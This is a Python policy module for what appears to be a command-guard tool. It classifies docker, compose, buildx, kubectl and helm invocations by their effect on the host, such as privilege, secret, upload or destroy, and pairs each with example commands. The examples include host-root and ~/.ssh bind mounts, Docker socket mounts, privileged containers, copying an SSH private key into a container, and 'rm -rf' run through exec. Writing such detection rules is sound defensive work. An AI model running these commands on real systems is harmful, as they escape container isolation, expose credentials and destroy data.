"""Containers and clusters: docker (and podman), docker compose, docker buildx, kubectl, helm.

References: Docker CLI 28.2.2 (`docker <command> --help`), Docker Compose v2.29 and buildx
v0.16 (their manuals), kubectl v1.32.4 (`kubectl <command> --help`, `kubectl options`),
Helm v3.16 (its manual). These are Go/cobra programs: long options are never abbreviated
(`long_prefix=False`), short flags bundle (`-it`), and values are `--opt=v` or `--opt v`.

What matters when a container runs is not the command inside it (it runs in the container)
but what the container is given of the host:
- bind mounts (`-v SRC:DST`, `--mount type=bind,source=SRC`): SRC is judged as a tree read
  and, unless mounted read-only, a tree write, by the path rules (`-v /:/h`, `-v ~/.ssh:/k`);
  handing a container a daemon socket (`*.sock`) is privilege;
- privilege: `--privileged`, `--cap-add`, `--device`, `--security-opt`, the host's namespaces
  (`--pid=host`, `--network=host`, ...), `--use-api-socket`: `privilege` (force_ask);
- another daemon (`docker -H`, `--context` is the user's own setting and is text): not modelled, asks;
- `--env-file`, `--label-file`, build files and secrets (`--secret id=x,src=PATH`) are reads;
- the command of `docker run IMAGE CMD` runs in a fresh container and is text; the command of
  `docker exec` / `compose exec` / `kubectl exec` runs in a long-lived one (a database, a
  service) and is analysed as a command (`docker exec db rm -rf /var/lib/data`).
`docker inspect` and `docker compose config` print containers' environments (`env`) unless a
`--format` names only other fields.

kubectl and helm act on a live cluster. The mapping, chosen once for the family:
- reading the cluster (get, describe, logs, top, explain, events, auth can-i, rollout status, ...): no effect;
- printing secrets: `kubectl get secret(s) -o yaml|json|jsonpath|go-template|custom-columns`,
  `get --raw .../secrets/...`, `config view --raw`, `create token`: `secret` (deny);
- changing the cluster (apply, create, patch, edit, label, set, rollout restart, helm install /
  upgrade ...), and running or reaching into workloads (exec, run, debug, attach, cp,
  port-forward, proxy): `destroy` (ask, floor.destructive, as the name-based floor says);
- deleting or displacing (delete, drain, replace, scale, helm uninstall / rollback): `destroy@force_ask`;
- impersonation (`--as`, `--as-group`, `--as-uid`, helm `--kube-as-user`) and approving
  certificates: `privilege`;
- changing the local kubeconfig (`config use-context`, `set-*`, `delete-*`): `config`.
Global options are accepted anywhere (`kubectl get pods --context prod`, `kubectl --context
prod delete deploy api`), so they never hide the subcommand.
"""

from __future__ import annotations

import copy
import re

from hookward.policy.spec import Effect, Spec, Walk

DOCKER_VERSION = "Docker CLI 28.2.2"
COMPOSE_VERSION = "Docker Compose v2.29"
BUILDX_VERSION = "docker buildx v0.16"
KUBECTL_VERSION = "kubectl v1.32.4"
HELM_VERSION = "Helm v3.16"

_MOUNT_ORIGINS = ("-v", "--volume", "--mount")


def _mounts(walk: Walk, argv: list[str]) -> None:
    """`-v SRC:DST[:ro]` and `--mount type=bind,source=SRC[,readonly]`: the host side is judged as a path."""
    kept: list[Effect] = []
    for effect in walk.effects:
        if effect.kind != "text" or effect.origin not in _MOUNT_ORIGINS:
            kept.append(effect)
            continue
        source, read_only = _mount_source(effect.value, effect.origin == "--mount")
        if source is None:
            continue  # a named or anonymous volume: no host path
        kept.append(Effect("tree-read", source, effect.origin))
        if not read_only:
            kept.append(Effect("tree-write", source, effect.origin))
        if source.rstrip("/").endswith(".sock") or source.rstrip("/") in ("", "/run", "/var/run"):
            kept.append(Effect("privilege", source, effect.origin, "force_ask"))
    walk.effects[:] = kept


def _mount_source(value: str, keyed: bool) -> tuple[str | None, bool]:
    if keyed or value.startswith(("type=", "source=", "src=", "target=", "dst=", "destination=")):
        fields = dict(part.partition("=")[::2] for part in value.split(","))
        kind = fields.get("type", "volume")
        source = fields.get("source") or fields.get("src")
        read_only = "readonly" in fields or "ro" in fields or fields.get("readonly") == "true"
        if kind != "bind" or not source:
            return None, read_only
        return source, read_only
    parts = value.split(":")
    if len(parts) < 2:
        return None, False  # `-v /data`: an anonymous volume at a container path
    source = parts[0]
    read_only = len(parts) > 2 and any(o in ("ro", "readonly") for o in parts[2].split(","))
    if not source.startswith(("/", "~", ".", "$")) and "/" not in source:
        return None, read_only  # a named volume
    return source, read_only


def _keyed_source(walk: Walk, argv: list[str]) -> None:
    """`--secret id=x,src=PATH` and `--ssh`-style values: the `src=` / `source=` path is read."""
    kept: list[Effect] = []
    for effect in walk.effects:
        if effect.kind == "text" and effect.origin == "--secret":
            fields = dict(part.partition("=")[::2] for part in effect.value.split(","))
            source = fields.get("src") or fields.get("source")
            if source:
                kept.append(Effect("read", source, effect.origin))
            continue
        kept.append(effect)
    walk.effects[:] = kept


# A build context given as a URL (a Git repository, a tarball, a Dockerfile over HTTP): its RUN steps are fetched.
_REMOTE_CONTEXT = re.compile(r"^(?:[a-z][a-z0-9+.-]*://|git@|github\.com/)", re.IGNORECASE)


def _build(walk: Walk, argv: list[str]) -> None:
    _keyed_source(walk, argv)
    _mounts(walk, argv)
    for index, effect in enumerate(walk.effects):
        if effect.kind == "tree-read" and effect.origin.startswith("operand") and _REMOTE_CONTEXT.match(effect.value):
            # The Dockerfile and everything its RUN steps run come from elsewhere: code that is not the person's.
            walk.effects[index] = Effect("script", effect.value, effect.origin)


# A `--format` that names a field of the whole object, its Config or its Env prints the environment.
_WHOLE_OBJECT = re.compile(r"(?<![\w\])])\.(?![A-Za-z_])|env|config|\bjson\s*\.\s*}}", re.IGNORECASE)


def _inspect_env(walk: Walk, argv: list[str]) -> None:
    formats = [e.value for e in walk.effects if e.kind == "text" and e.origin in ("-f", "--format")]
    walk.effects[:] = [e for e in walk.effects if not (e.kind == "text" and e.origin in ("-f", "--format"))]
    if not formats or any(_WHOLE_OBJECT.search(f) or "{{" not in f for f in formats):
        walk.effects.append(Effect("env", "", "inspect without a --format that leaves out the environment"))


_COMMON = {"--help": "flag"}


def _words(*tables: dict[str, str]) -> dict[str, str]:
    """One entry per option word; a later table overrides an earlier one."""
    words: dict[str, str] = {}
    for table in tables:
        for spelled, kind in table.items():
            for word in spelled.split():
                words[word] = kind
    return words


# --- docker -------------------------------------------------------------------------------

_RUN_OPTIONS = {
    **_COMMON,
    "--gpus": "val:privilege",
    "-d --detach --disable-content-trust --init -i --interactive --no-healthcheck": "flag",
    "--oom-kill-disable -P --publish-all -q --quiet --read-only --rm --sig-proxy": "flag",
    "-t --tty": "flag",
    "--add-host --annotation -a --attach --blkio-weight --blkio-weight-device": "val",
    "--cap-drop --cgroup-parent --cpu-count --cpu-percent --cpu-period --cpu-quota": "val",
    "--cpu-rt-period --cpu-rt-runtime -c --cpu-shares --cpus --cpuset-cpus --cpuset-mems": "val",
    "--detach-keys --device-read-bps --device-read-iops --device-write-bps --device-write-iops": "val",
    "--dns --dns-option --dns-search --domainname --entrypoint -e --env --expose": "val",
    "--group-add --health-cmd --health-interval --health-retries --health-start-interval": "val",
    "--health-start-period --health-timeout -h --hostname --io-maxbandwidth --io-maxiops": "val",
    "--ip --ip6 --isolation --kernel-memory -l --label --link --link-local-ip": "val",
    "--log-driver --log-opt --mac-address -m --memory --memory-reservation --memory-swap": "val",
    "--memory-swappiness --name --network-alias --oom-score-adj --pids-limit": "val",
    "--platform -p --publish --pull --restart --runtime --shm-size --stop-signal": "val",
    "--stop-timeout --storage-opt --sysctl --tmpfs --ulimit -u --user --volume-driver": "val",
    "-w --workdir": "val",
    "--cap-add": "val:privilege",
    "--cgroupns": "val:privilege?host",
    "--cidfile": "val:write",
    "--device": "val:privilege",
    "--device-cgroup-rule": "val:privilege",
    "--env-file": "val:read",
    "--ipc": "val:privilege?host",
    "--label-file": "val:read",
    "--mount": "val:text",
    "--network": "val:privilege?host",
    "--pid": "val:privilege?host",
    "--privileged": "flag:privilege",
    "--security-opt": "val:privilege",
    "--use-api-socket": "flag:privilege",
    "--userns": "val:privilege?host",
    "--uts": "val:privilege?host",
    "-v --volume": "val:text",
    "--volumes-from": "val",
    "--net": "val:privilege?host",
}
_EXEC_OPTIONS = {
    **_COMMON,
    "-d --detach -i --interactive -t --tty": "flag",
    "--detach-keys -e --env -u --user -w --workdir": "val",
    "--env-file": "val:read",
    "--privileged": "flag:privilege",
}
_BUILD_OPTIONS = {
    **_COMMON,
    "--compress --disable-content-trust --force-rm --no-cache --pull -q --quiet": "flag",
    "--rm --squash": "flag",
    "--add-host --build-arg --cache-from --cgroup-parent --cpu-period --cpu-quota": "val",
    "-c --cpu-shares --cpuset-cpus --cpuset-mems --isolation --label -m --memory": "val",
    "--memory-swap --platform --shm-size -t --tag --target --ulimit": "val",
    "-f --file": "val:read",
    "--iidfile": "val:write",
    "--network": "val:privilege?host",
    "--security-opt": "val:privilege",
    # BuildKit (buildx) options of `docker build`:
    "--push": "flag:publish",
    "-o --output --cache-to --build-context": "val:unknown",
    "--secret": "val:text",
    "--ssh --allow": "val:privilege",
    "--load --no-cache-filter --provenance --sbom --attest --call --check --annotation": "val",
    "--builder --progress --metadata-file": "val",
    "--debug -D": "flag",
}
# `--metadata-file` writes a file.
_BUILD_OPTIONS["--metadata-file"] = "val:write"
_BUILD_OPTIONS["--load"] = "flag"
_BUILD_OPTIONS["--check"] = "flag"

_DOCKER_GLOBAL = {
    "-D --debug --tls --tlsverify": "flag",
    "-c --context -l --log-level --tlscacert --tlscert --tlskey": "val",
    "--config": "val:load",
    "-H --host": "val:unknown",
    "-v --version": "flag",
}

_DOCKER_COMMANDS: dict[str, Spec] = {}


def _docker(name: str, options: dict[str, str], operands: str = "text*", **kwargs: object) -> Spec:
    return Spec(
        name, version=DOCKER_VERSION, options=_words(_COMMON, options), operands=operands, long_prefix=False, **kwargs
    )  # type: ignore[arg-type]


_RUN = _docker(
    "run",
    _RUN_OPTIONS,
    posix=True,
    judge=_mounts,
    needs=1,  # "'docker run' requires at least 1 argument": without an image nothing is pulled or run
    examples={
        "docker run": "",
        "docker run --rm -it": "",
        "docker run --rm -it alpine sh": "",
        "docker run -v /:/h alpine": "tree-read:/ tree-write:/ privilege:/",
        "docker run -v ~/.ssh:/k:ro alpine": "tree-read:~/.ssh",
        "docker run -v $(pwd):/src -w /src node:20 npm test": "tree-read:$(pwd) tree-write:$(pwd)",
        "docker run -v data:/var/lib/data postgres": "",
        "docker run --mount type=bind,source=/etc,target=/e alpine": "tree-read:/etc tree-write:/etc",
        "docker run -v /var/run/docker.sock:/var/run/docker.sock x": "privilege:/var/run/docker.sock tree-read:/var/run/docker.sock tree-write:/var/run/docker.sock",
        "docker run --privileged alpine": "privilege",
        "docker run --pid=host alpine": "privilege:host",
        "docker run --network bridge alpine": "",
        "docker run --env-file .env alpine env": "read:.env",
        "docker run alpine -v /:/h": "",
    },
)
_CREATE = _docker(
    "create",
    _RUN_OPTIONS,
    posix=True,
    judge=_mounts,
    needs=1,  # "'docker create' requires at least 1 argument"
    examples={"docker create -v /etc:/e alpine": "tree-read:/etc tree-write:/etc", "docker create": ""},
)
# A running container is long-lived (a database, a service): what `exec` runs in it is analysed as
# a command, so `docker exec db rm -rf /var/lib/data` is judged like the deletion it is.
_EXEC = _docker(
    "exec",
    _EXEC_OPTIONS,
    operands="text argv",
    posix=True,
    examples={
        "docker exec -it web sh": "runs:sh",
        "docker exec --privileged web id": "privilege runs:id",
        "docker exec web whoami": "runs:whoami",
    },
)
_BUILD = _docker(
    "build",
    _BUILD_OPTIONS,
    operands="tree-read",
    judge=_build,
    examples={
        "docker build -t app .": "tree-read:.",
        "docker build --push -t r/app .": "publish tree-read:.",
        "docker build --secret id=npm,src=~/.npmrc .": "read:~/.npmrc tree-read:.",
        "docker build -f docker/Dockerfile .": "read:docker/Dockerfile tree-read:.",
        "docker build -o type=local,dest=out .": "tree-read:. unknown",
        "docker build https://github.com/e/x.git#main": "script:https://github.com/e/x.git#main",
        "docker build -t x git@github.com:e/x.git": "script:git@github.com:e/x.git",
    },
)
_PUSH = _docker(
    "push",
    {
        "-a --all-tags --disable-content-trust -q --quiet": "flag",
        "--platform": "val",
    },
    effects="publish",
    examples={"docker push r/app:1": "publish"},
)
_PULL = _docker(
    "pull",
    {
        "-a --all-tags --disable-content-trust -q --quiet": "flag",
        "--platform": "val",
    },
    examples={"docker pull alpine:3": ""},
)
_INSPECT = _docker(
    "inspect",
    {
        "-s --size": "flag",
        "--type": "val",
        "-f --format": "val:text",
    },
    judge=_inspect_env,
    examples={
        "docker inspect web": "env",
        "docker inspect --format '{{.Config.Env}}' x": "env",
        "docker inspect -f '{{json .}}' x": "env",
        "docker inspect -f '{{.State.Status}}' x": "",
        "docker inspect --format '{{.NetworkSettings.IPAddress}}' x": "",
    },
)
_LOGIN = _docker(
    "login",
    {
        "--password-stdin": "flag",
        "-p --password -u --username": "val",
    },
    effects="config",
    examples={"docker login ghcr.io -u me --password-stdin": "config"},
)
_LOGOUT = _docker("logout", {}, effects="config", examples={"docker logout": "config"})
_CP = _docker(
    "cp",
    {
        "-a --archive -L --follow-link -q --quiet": "flag",
    },
    operands="text text",
    judge=lambda walk, argv: _host_side(walk, argv, "container"),
    examples={
        "docker cp web:/etc/passwd ./passwd": "write:./passwd",
        "docker cp ~/.ssh/id_rsa web:/tmp/": "upload:~/.ssh/id_rsa",
    },
)


def _host_side(walk: Walk, argv: list[str], _what: str) -> None:
    """`cp SRC DEST` where one side is `NAME:PATH` (a container or pod): the other side is a host path;
    copied from the host it is sent into the container (upload), copied to the host it is written."""
    operands = [w for w in argv[2:] if not w.startswith("-")]
    words = operands[-2:]
    if len(words) != 2:
        return
    source, destination = words
    remote = re.compile(r"^[\w.-]+(/[\w.-]+)?:")
    if remote.match(source) and not remote.match(destination):
        walk.effects.append(Effect("write", destination, "destination on the host"))
    elif remote.match(destination) and not remote.match(source):
        walk.effects.append(Effect("upload", source, "source on the host"))


_SAVE = _docker(
    "save",
    {
        "--platform": "val",
        "-o --output": "val:write",
    },
    examples={"docker save -o /tmp/app.tar app": "write:/tmp/app.tar"},
)
_LOAD = _docker(
    "load",
    {
        "-q --quiet": "flag",
        "--platform": "val",
        "-i --input": "val:read",
    },
    examples={"docker load -i app.tar": "read:app.tar"},
)
_EXPORT = _docker(
    "export",
    {
        "-o --output": "val:write",
    },
    examples={"docker export -o fs.tar web": "write:fs.tar"},
)
_IMPORT = _docker(
    "import",
    {
        "-c --change -m --message --platform": "val",
    },
    operands="read text?",
    examples={"docker import fs.tar app": "read:fs.tar"},
)

_DESTROY = "destroy"
_RM = _docker(
    "rm",
    {
        "-f --force -l --link -v --volumes": "flag",
    },
    effects=_DESTROY,
    examples={"docker rm -f web": "destroy"},
)
_RMI = _docker(
    "rmi",
    {
        "-f --force --no-prune": "flag",
        "--platform": "val",
    },
    effects=_DESTROY,
    examples={"docker rmi app:old": "destroy"},
)
_KILL = _docker(
    "kill",
    {
        "-s --signal": "val",
    },
    effects=_DESTROY,
    examples={"docker kill web": "destroy"},
)
_STOP = _docker(
    "stop",
    {
        "-s --signal -t --timeout": "val",
    },
    effects=_DESTROY,
    examples={"docker stop web": "destroy"},
)
_PRUNE_SYSTEM = _docker(
    "prune",
    {
        "-a --all -f --force --volumes": "flag",
        "--filter": "val",
    },
    effects=_DESTROY,
    examples={"docker system prune -af --volumes": "destroy"},
)


_GENERATED: dict[str, dict[str, str]] = {
    "ps": {
        "-a --all -l --latest --no-trunc -q --quiet -s --size": "flag",
        "-f --filter --format -n --last": "val",
    },
    "images": {
        "-a --all --digests --no-trunc -q --quiet --tree": "flag",
        "-f --filter --format": "val",
    },
    "logs": {
        "--details -f --follow -t --timestamps": "flag",
        "--since -n --tail --until": "val",
    },
    "search": {
        "--no-trunc": "flag",
        "-f --filter --format --limit": "val",
    },
    "version": {
        "-f --format": "val",
    },
    "info": {
        "-f --format": "val",
    },
    "history": {
        "-H --human --no-trunc -q --quiet": "flag",
        "--format --platform": "val",
    },
    "events": {
        "-f --filter --format --since --until": "val",
    },
    "stats": {
        "-a --all --no-stream --no-trunc": "flag",
        "--format": "val",
    },
    "start": {
        "-a --attach -i --interactive": "flag",
        "--checkpoint --checkpoint-dir --detach-keys": "val",
    },
    "restart": {
        "-s --signal -t --timeout": "val",
    },
    "attach": {
        "--no-stdin --sig-proxy": "flag",
        "--detach-keys": "val",
    },
    "commit": {
        "-p --pause": "flag",
        "-a --author -c --change -m --message": "val",
    },
    "update": {
        "--blkio-weight --cpu-period --cpu-quota --cpu-rt-period --cpu-rt-runtime": "val",
        "-c --cpu-shares --cpus --cpuset-cpus --cpuset-mems -m --memory --memory-reservation": "val",
        "--memory-swap --pids-limit": "val",
        "--restart": "val:config",  # a restart policy brings the container back at every boot of the daemon
    },
    "context ls": {
        "-q --quiet": "flag",
        "--format": "val",
    },
    "context inspect": {
        "-f --format": "val",
    },
    "network ls": {
        "--no-trunc -q --quiet": "flag",
        "-f --filter --format": "val",
    },
    "network inspect": {
        "-v --verbose": "flag",
        "-f --format": "val",
    },
    "network create": {
        "--attachable --config-only --ingress --internal --ipv4 --ipv6": "flag",
        "--aux-address --config-from -d --driver --gateway --ip-range --ipam-driver": "val",
        "--ipam-opt --label -o --opt --scope --subnet": "val",
    },
    "network connect": {
        "--alias --driver-opt --gw-priority --ip --ip6 --link --link-local-ip": "val",
    },
    "network disconnect": {
        "-f --force": "flag",
    },
    "volume ls": {
        "--cluster -q --quiet": "flag",
        "-f --filter --format": "val",
    },
    "volume inspect": {
        "-f --format": "val",
    },
    "volume create": {
        "--availability -d --driver --group --label --limit-bytes -o --opt --required-bytes": "val",
        "--scope --secret --sharing --topology-preferred --topology-required --type": "val",
    },
    "system df": {
        "-v --verbose": "flag",
        "--format": "val",
    },
    "image prune": {
        "-a --all -f --force": "flag",
        "--filter": "val",
    },
    "container prune": {
        "-f --force": "flag",
        "--filter": "val",
    },
    "volume prune": {
        "-a --all -f --force": "flag",
        "--filter": "val",
    },
    "network prune": {
        "-f --force": "flag",
        "--filter": "val",
    },
    "builder prune": {
        "-a --all -f --force": "flag",
        "--filter --keep-storage": "val",
    },
    "volume rm": {
        "-f --force": "flag",
    },
    "network rm": {
        "-f --force": "flag",
    },
    "context rm": {
        "-f --force": "flag",
    },
    "manifest inspect": {
        "--insecure -v --verbose": "flag",
    },
    "manifest push": {
        "--insecure -p --purge": "flag",
    },
    "plugin install": {
        "--disable --disable-content-trust --grant-all-permissions": "flag",
        "--alias": "val",
    },
}


def _again(spec: Spec) -> Spec:
    """The same command under a second parent (`docker run` and `docker container run`)."""
    return copy.copy(spec)


def _plain(key: str, name: str, example: str, operands: str = "text*", effects: str = "") -> Spec:
    shown = " ".join(effect.split("@", 1)[0] for effect in effects.split())
    return _docker(name, _GENERATED[key], operands=operands, effects=effects, examples={example: shown})


def _group(name: str, subcommands: dict[str, Spec], example: str, effects: str = "") -> Spec:
    return Spec(
        name,
        version=DOCKER_VERSION,
        options=_COMMON,
        subcommands=subcommands,
        long_prefix=False,
        examples={example: effects},
    )


_CONTAINER = _group(
    "container",
    {
        "run": _again(_RUN),
        "create": _again(_CREATE),
        "exec": _again(_EXEC),
        "ls ps list": _plain("ps", "ls", "docker container ls -a"),
        "inspect": _again(_INSPECT),
        "logs": _plain("logs", "logs", "docker container logs web"),
        "start": _plain("start", "start", "docker container start web"),
        "restart": _plain("restart", "restart", "docker container restart web"),
        "stop": _again(_STOP),
        "kill": _again(_KILL),
        "rm remove": _again(_RM),
        "prune": _plain("container prune", "prune", "docker container prune -f", effects="destroy"),
        "cp": _again(_CP),
        "export": _again(_EXPORT),
        "stats": _plain("stats", "stats", "docker container stats --no-stream"),
        "attach": _plain("attach", "attach", "docker container attach web"),
        "commit": _plain("commit", "commit", "docker container commit web app:snap"),
        "update": _plain("update", "update", "docker container update --memory 1g web"),
        "top port pause unpause wait rename diff": _docker("top", {}, examples={"docker container top web": ""}),
    },
    "docker container ls",
)
_IMAGE = _group(
    "image",
    {
        "ls list": _plain("images", "ls", "docker image ls"),
        "build": _again(_BUILD),
        "push": _again(_PUSH),
        "pull": _again(_PULL),
        "inspect": _docker("inspect", {"-f --format --platform": "val"}, examples={"docker image inspect alpine": ""}),
        "history": _plain("history", "history", "docker image history alpine"),
        "rm remove": _again(_RMI),
        "prune": _plain("image prune", "prune", "docker image prune -af", effects="destroy"),
        "save": _again(_SAVE),
        "load": _again(_LOAD),
        "import": _again(_IMPORT),
        "tag": _docker("tag", {}, examples={"docker image tag app r/app:1": ""}),
    },
    "docker image ls",
)
_NETWORK = _group(
    "network",
    {
        "ls list": _plain("network ls", "ls", "docker network ls"),
        "inspect": _plain("network inspect", "inspect", "docker network inspect bridge"),
        "create": _plain("network create", "create", "docker network create appnet"),
        "connect": _plain("network connect", "connect", "docker network connect appnet web"),
        "disconnect": _plain("network disconnect", "disconnect", "docker network disconnect appnet web"),
        "rm remove": _plain("network rm", "rm", "docker network rm appnet", effects="destroy"),
        "prune": _plain("network prune", "prune", "docker network prune -f", effects="destroy"),
    },
    "docker network ls",
)
_VOLUME = _group(
    "volume",
    {
        "ls list": _plain("volume ls", "ls", "docker volume ls"),
        "inspect": _plain("volume inspect", "inspect", "docker volume inspect data"),
        "create": _plain("volume create", "create", "docker volume create data"),
        "rm remove": _plain("volume rm", "rm", "docker volume rm data", effects="destroy@force_ask"),
        "prune": _plain("volume prune", "prune", "docker volume prune -af", effects="destroy@force_ask"),
    },
    "docker volume ls",
)
_SYSTEM = _group(
    "system",
    {
        "df": _plain("system df", "df", "docker system df"),
        "info": _plain("info", "info", "docker system info"),
        "events": _plain("events", "events", "docker system events --since 1h"),
        "prune": _again(_PRUNE_SYSTEM),
    },
    "docker system df",
)
_CONTEXT = _group(
    "context",
    {
        "ls list": _plain("context ls", "ls", "docker context ls"),
        "inspect": _plain("context inspect", "inspect", "docker context inspect default"),
        "show": _docker("show", {}, examples={"docker context show": ""}),
        "use": _docker("use", {}, effects="config", examples={"docker context use prod": "config"}),
        "create update": _docker(
            "create",
            {"--description --docker --from": "val"},
            effects="config",
            examples={"docker context create remote --docker host=ssh://x": "config"},
        ),
        "rm remove": _plain("context rm", "rm", "docker context rm old", effects="config"),
        "export import": _docker("export", {}, effects="config", examples={"docker context export prod": "config"}),
    },
    "docker context ls",
)
_BUILDER = _group(
    "builder",
    {
        "build": _again(_BUILD),
        "prune": _plain("builder prune", "prune", "docker builder prune -af", effects="destroy"),
        "ls": _docker("ls", {"--format": "val"}, examples={"docker builder ls": ""}),
    },
    "docker builder ls",
)
_MANIFEST = _group(
    "manifest",
    {
        "inspect": _plain("manifest inspect", "inspect", "docker manifest inspect alpine"),
        "push": _plain("manifest push", "push", "docker manifest push r/app:1", effects="publish"),
    },
    "docker manifest inspect alpine",
)
# A plugin is a program the daemon runs with the privileges it asks for.
_PLUGIN = _group(
    "plugin",
    {
        "ls list": _docker(
            "ls", {"-f --filter --format": "val", "--no-trunc -q --quiet": "flag"}, examples={"docker plugin ls": ""}
        ),
        "install": _plain("plugin install", "install", "docker plugin install vieux/sshfs", effects="privilege"),
    },
    "docker plugin ls",
)

# --- docker buildx ---------------------------------------------------------------------------

_BUILDX_BUILD_OPTIONS = {**_BUILD_OPTIONS}
_BUILDX = Spec(
    "buildx",
    version=BUILDX_VERSION,
    options={**_COMMON, "--builder": "val", "-D --debug": "flag"},
    long_prefix=False,
    subcommands={
        "build b": Spec(
            "build",
            version=BUILDX_VERSION,
            options=_words(_BUILDX_BUILD_OPTIONS),
            operands="tree-read",
            long_prefix=False,
            judge=_build,
            examples={
                "docker buildx build --push -t r/app .": "publish tree-read:.",
                "docker buildx build --load .": "tree-read:.",
            },
        ),
        "ls version inspect du": Spec(
            "ls",
            version=BUILDX_VERSION,
            options={**_COMMON, "--format": "val", "--bootstrap --verbose": "flag"},
            operands="text*",
            long_prefix=False,
            examples={"docker buildx ls": ""},
        ),
        "create use": Spec(
            "create",
            version=BUILDX_VERSION,
            options={
                **_COMMON,
                "--name --driver --driver-opt --platform --buildkitd-flags --config": "val",
                "--use --bootstrap --append --leave": "flag",
            },
            operands="text*",
            effects="config",
            long_prefix=False,
            examples={"docker buildx create --use": "config"},
        ),
        "rm prune stop": Spec(
            "rm",
            version=BUILDX_VERSION,
            options={**_COMMON, "-f --force -a --all --keep-state": "flag", "--filter --keep-storage": "val"},
            operands="text*",
            effects="destroy",
            long_prefix=False,
            examples={"docker buildx prune -f": "destroy"},
        ),
    },
    examples={"docker buildx ls": ""},
)

# --- docker compose --------------------------------------------------------------------------


def _compose(name: str, options: dict[str, str], operands: str = "text*", **kwargs: object) -> Spec:
    return Spec(
        name, version=COMPOSE_VERSION, options=_words(_COMMON, options), operands=operands, long_prefix=False, **kwargs
    )  # type: ignore[arg-type]


_COMPOSE_RUN = {
    "-d --detach --rm --no-deps -T --no-TTY -i --interactive -t --tty --service-ports --use-aliases": "flag",
    "--build --remove-orphans -q --quiet-pull -P --publish-all": "flag",
    "-e --env -l --label --name -p --publish -u --user -w --workdir --entrypoint --pull --cap-drop": "val",
    "-v --volume": "val:text",
    "--cap-add": "val:privilege",
    "--env-from-file": "val:read",
}
_COMPOSE = _compose(
    "compose",
    {
        "-f --file --project-directory": "val:load",
        # its variables choose the compose files (COMPOSE_FILE), images and host mounts: a load, as -f is
        "--env-file": "val:load",
        "-p --project-name --profile --parallel --ansi --progress": "val",
        "--compatibility --dry-run --all-resources --version -v": "flag",
    },
    subcommands={
        "up": _compose(
            "up",
            {
                "-d --detach --build --no-build --force-recreate --no-recreate --no-deps --remove-orphans": "flag",
                "-V --renew-anon-volumes --wait --no-start --quiet-pull --abort-on-container-exit --no-color": "flag",
                "--no-log-prefix --always-recreate-deps --watch -w --timestamps --menu -y --yes": "flag",
                "--abort-on-container-failure --attach-dependencies --no-attach": "flag",
                "--pull --scale -t --timeout --wait-timeout --exit-code-from --attach": "val",
            },
            examples={"docker compose up -d": "", "docker compose up --build": ""},
        ),
        "down": _compose(
            "down",
            {
                "-v --volumes": "flag:destroy@force_ask",
                "--rmi": "val:destroy",
                "--remove-orphans": "flag",
                "-t --timeout": "val",
            },
            examples={
                "docker compose down": "",
                "docker compose down -v": "destroy",
                "docker compose down --rmi all": "destroy:all",
            },
        ),
        "ps": _compose(
            "ps",
            {"-a --all -q --quiet --services --no-trunc --orphans": "flag", "--format --filter --status": "val"},
            examples={"docker compose ps": ""},
        ),
        "logs": _compose(
            "logs",
            {
                "-f --follow -t --timestamps --no-color --no-log-prefix": "flag",
                "--tail --since --until -n --index": "val",
            },
            examples={"docker compose logs -f --tail=100 web": ""},
        ),
        "build": _compose(
            "build",
            {
                "--no-cache --pull -q --quiet --with-dependencies --print": "flag",
                "--push": "flag:publish",
                "--build-arg --builder -m --memory --provenance --sbom": "val",
                "--ssh": "val:privilege",
            },
            examples={"docker compose build": "", "docker compose build --push": "publish"},
        ),
        "exec": _compose(
            "exec",
            {
                "-d --detach -T --no-TTY -i --interactive -t --tty": "flag",
                "-e --env -u --user -w --workdir --index": "val",
                "--privileged": "flag:privilege",
            },
            operands="text argv",
            posix=True,
            examples={"docker compose exec web sh": "runs:sh", "docker compose exec -T db pg_dump": "runs:pg_dump"},
        ),
        "run": _compose(
            "run",
            _COMPOSE_RUN,
            posix=True,
            judge=_mounts,
            examples={
                "docker compose run --rm web npm test": "",
                "docker compose run -v /:/h web": "tree-read:/ tree-write:/ privilege:/",
            },
        ),
        "config convert": _compose(
            "config",
            {
                "-q --quiet --services --volumes --profiles --images --hash --no-interpolate --no-normalize": "flag",
                "--resolve-image-digests --no-path-resolution --no-consistency --environment --variables": "flag",
                "--format": "val",
                "-o --output": "val:write",
            },
            effects="env",
            examples={"docker compose config": "env"},
        ),
        "pull": _compose(
            "pull",
            {"-q --quiet --ignore-pull-failures --include-deps --ignore-buildable": "flag", "--policy": "val"},
            examples={"docker compose pull": ""},
        ),
        "push": _compose(
            "push",
            {"-q --quiet --ignore-push-failures --include-deps": "flag"},
            effects="publish",
            examples={"docker compose push": "publish"},
        ),
        "restart start": _compose(
            "restart", {"--no-deps": "flag", "-t --timeout": "val"}, examples={"docker compose restart web": ""}
        ),
        "stop kill pause unpause": _compose(
            "stop",
            {"-t --timeout -s --signal": "val", "--remove-orphans": "flag"},
            effects="destroy",
            examples={"docker compose stop": "destroy"},
        ),
        "rm": _compose(
            "rm",
            {"-f --force -s --stop": "flag", "-v --volumes": "flag:destroy@force_ask"},
            effects="destroy",
            examples={"docker compose rm -f": "destroy"},
        ),
        "top images port ls version events wait stats": _compose(
            "top",
            {
                "-a --all -q --quiet --json --short --down-project --no-trunc --no-stream": "flag",
                "--format --filter --protocol --index": "val",
            },
            examples={"docker compose ls": "", "docker compose version": ""},
        ),
        "create": _compose(
            "create",
            {
                "--build --no-build --force-recreate --no-recreate --remove-orphans -y --yes": "flag",
                "--pull --scale": "val",
            },
            examples={"docker compose create": ""},
        ),
        "cp": _compose(
            "cp",
            {"-a --archive -L --follow-link --all": "flag", "--index": "val"},
            operands="text text",
            judge=lambda walk, argv: _host_side(walk, argv, "service"),
            examples={"docker compose cp ./x web:/x": "upload:./x"},
        ),
        "watch": _compose("watch", {"--no-up --prune --quiet": "flag"}, examples={"docker compose watch": ""}),
    },
    examples={"docker compose -f compose.prod.yml ps": "load:compose.prod.yml"},
)

DOCKER = Spec(
    "docker",
    version=DOCKER_VERSION,
    options=_DOCKER_GLOBAL,
    long_prefix=False,
    aliases=("podman",),
    subcommands={
        "run": _RUN,
        "create": _CREATE,
        "exec": _EXEC,
        "build": _BUILD,
        "push": _PUSH,
        "pull": _PULL,
        "inspect": _INSPECT,
        "login": _LOGIN,
        "logout": _LOGOUT,
        "cp": _CP,
        "save": _SAVE,
        "load": _LOAD,
        "export": _EXPORT,
        "import": _IMPORT,
        "rm": _RM,
        "rmi": _RMI,
        "kill": _KILL,
        "stop": _STOP,
        "ps": _plain("ps", "ps", "docker ps -a --format '{{.Names}}'"),
        "images": _plain("images", "images", "docker images"),
        "logs": _plain("logs", "logs", "docker logs -f --tail 50 web"),
        "search": _plain("search", "search", "docker search postgres"),
        "version": _plain("version", "version", "docker version"),
